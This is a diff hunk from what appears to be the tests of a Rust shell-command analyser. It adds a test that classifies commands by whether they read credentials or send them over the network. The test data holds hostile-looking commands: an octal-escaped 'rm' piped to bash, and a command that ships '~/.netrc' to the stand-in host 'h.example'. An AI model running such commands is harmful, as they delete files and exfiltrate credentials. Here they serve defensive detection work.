@@ -99,3 +99,15 @@ fn what_shells_call_by_themselves_runs() {
     assert_eq!(deleted("printf %b '\\162\\155 a' | bash"), 1);
     assert_eq!(deleted("printf %s '\\162\\155 a' | bash"), 0);
 }
+
+#[test]
+fn a_program_that_nobody_knows_takes_a_credential_to_the_host_that_it_is_given() {
+    let sent = of_kind("odd-put h.example / ~/.netrc", "net.send");
+    assert!(sent.len() == 1 && sent[0].contains("secret"), "{sent:?}");
+    assert_eq!(of_kind("odd-tool ~/.netrc", "credential.read").len(), 1);
+    assert_eq!(of_kind("odd-tool ~/.netrc", "net.send").len(), 0);
+    assert_eq!(
+        of_kind("odd-put h.example notes/a.txt", "net.send").len(),
+        0
+    );
+}
